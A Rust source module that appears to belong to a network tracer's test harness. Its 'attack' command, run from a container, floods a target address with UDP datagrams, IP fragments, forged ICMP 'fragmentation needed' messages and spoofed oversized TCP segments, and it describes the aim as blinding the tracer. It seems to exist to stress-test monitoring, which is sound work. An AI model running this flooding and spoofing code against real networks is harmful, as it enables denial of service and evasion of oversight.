//! What a container does that wants a tracer to be blind: one thing, as fast as it can, until it is killed.

use std::io::{Error, ErrorKind, Result};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};

use super::args::option;
use super::fragment::{raw, v4};
use super::packet::checksum;
use super::udp::{bound_for, destination, without_fragments};

/// UDP payload of a packet of 1500 bytes.
const FULL: usize = 1472;
/// Nobody listens on that port (RFC 863).
const DISCARD: u16 = 9;
const ICMP: u8 = 1;
const TCP: u8 = 6;

/// `attack KIND ADDR`, with `--as IP` where another's address is borrowed.
pub(crate) fn run(args: &[String]) -> Result<()> {
    let to = destination(&args[1..])?;
    let SocketAddr::V4(to) = to else { return Err(ErrorKind::InvalidInput.into()) };
    let borrowed = || {
        let address = option(args, "--as").and_then(|text| text.parse::<Ipv4Addr>().ok());
        address.ok_or_else(|| Error::new(ErrorKind::InvalidInput, "--as wants an address"))
    };
    match args.get(1).map(String::as_str) {
        Some("datagrams") => datagrams(to, false),
        Some("flows") => datagrams(to, true),
        Some("fragments") => endless(to, |n| v4(local(to), *to.ip(), n as u16, &[b'x'; 1400])),
        Some("messages") => {
            let quoted = borrowed()?;
            endless(to, |n| message(local(to), quoted, *to.ip(), n))
        }
        Some("segments") => {
            let from = borrowed()?;
            endless(to, |n| segment(from, *to.ip(), n))
        }
        Some("refused") => refused(to),
        _ => Err(Error::new(
            ErrorKind::InvalidInput,
            "datagrams, flows, fragments, messages, segments or refused",
        )),
    }
}

/// The address that the kernel sends from.
fn local(to: SocketAddrV4) -> Ipv4Addr {
    let probe = bound_for(to.into()).and_then(|socket| socket.connect(to).and_then(|()| socket.local_addr()));
    match probe.map(|address| address.ip()) {
        Ok(IpAddr::V4(ip)) => ip,
        _ => Ipv4Addr::UNSPECIFIED,
    }
}

fn begun() {
    println!("ready");
}

/// With DF, whatever the kernel has learnt: each is really sent. `flows`: each to another port.
fn datagrams(to: SocketAddrV4, flows: bool) -> Result<()> {
    let socket = bound_for(to.into())?;
    without_fragments(&socket)?;
    begun();
    for n in 0u32.. {
        let port = if flows { 1024 + (n % 60_000) as u16 } else { DISCARD };
        ignore_full(socket.send_to(&[b'x'; FULL], (*to.ip(), port)))?;
    }
    Ok(())
}

fn endless(to: SocketAddrV4, packet: impl Fn(u32) -> Vec<u8>) -> Result<()> {
    let socket = raw(to.into())?;
    begun();
    for n in 0u32.. {
        ignore_full(socket.send_to(&packet(n), (*to.ip(), 0)))?;
    }
    Ok(())
}

/// "Fragmentation needed" about a packet that was never sent (RFC 1191 §4).
fn message(from: Ipv4Addr, quoted: Ipv4Addr, to: Ipv4Addr, n: u32) -> Vec<u8> {
    let mut body = vec![3, 4, 0, 0, 0, 0];
    body.extend(1000u16.to_be_bytes());
    let mut inside = header(TCP, quoted, to, 1500, n as u16);
    inside.extend((1024 + (n % 60_000) as u16).to_be_bytes());
    inside.extend([0, 80]);
    inside.extend(n.to_be_bytes());
    body.extend(inside);
    checksum(&mut body, 2, &[]);
    let mut packet = header(ICMP, from, to, 20 + body.len() as u16, n as u16);
    packet.extend(body);
    packet
}

/// The same large TCP segment again and again.
fn segment(from: Ipv4Addr, to: Ipv4Addr, n: u32) -> Vec<u8> {
    let length = 3000;
    let mut packet = header(TCP, from, to, length, n as u16);
    packet.extend([40_000u16, 80].map(u16::to_be_bytes).concat());
    packet.extend([7u32, 7].map(u32::to_be_bytes).concat());
    packet.extend([0x50, 0x10, 0xff, 0xff, 0, 0, 0, 0]);
    packet.resize(usize::from(length), b'x');
    packet
}

fn header(protocol: u8, from: Ipv4Addr, to: Ipv4Addr, length: u16, id: u16) -> Vec<u8> {
    const DF: u16 = 0x4000;
    let mut header = vec![0x45, 0];
    header.extend([length, id, DF].map(u16::to_be_bytes).concat());
    header.extend([64, protocol, 0, 0]);
    header.extend(from.octets());
    header.extend(to.octets());
    checksum(&mut header, 10, &[]);
    header
}

/// A new connected socket each time, and more than its device takes: `EMSGSIZE`.
fn refused(to: SocketAddrV4) -> Result<()> {
    begun();
    for n in 0u32.. {
        let socket = bound_for(to.into())?;
        without_fragments(&socket)?;
        socket.connect((*to.ip(), 1024 + (n % 60_000) as u16))?;
        ignore_full(socket.send(&[b'x'; 3000]))?;
    }
    Ok(())
}

/// Queues that are full, and what is too big: part of the experiment.
fn ignore_full(sent: Result<usize>) -> Result<()> {
    match sent {
        Err(error) => match error.raw_os_error() {
            Some(libc::EMSGSIZE | libc::ENOBUFS | libc::EAGAIN | libc::ECONNREFUSED | libc::EHOSTUNREACH) => {
                Ok(())
            }
            _ => Err(error),
        },
        Ok(_) => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_forged_is_well_formed() {
        let [a, b, c] = [1, 2, 3].map(|n| Ipv4Addr::new(10, 0, 0, n));
        let message = message(a, b, c, 5);
        assert_eq!((message.len(), message[9], &message[20..22]), (20 + 8 + 28, ICMP, &[3, 4][..]));
        assert_eq!((&message[40..44], &message[44..48]), (&b.octets()[..], &c.octets()[..]));
        assert_eq!(segment(a, c, 1).len(), 3000);
    }
}
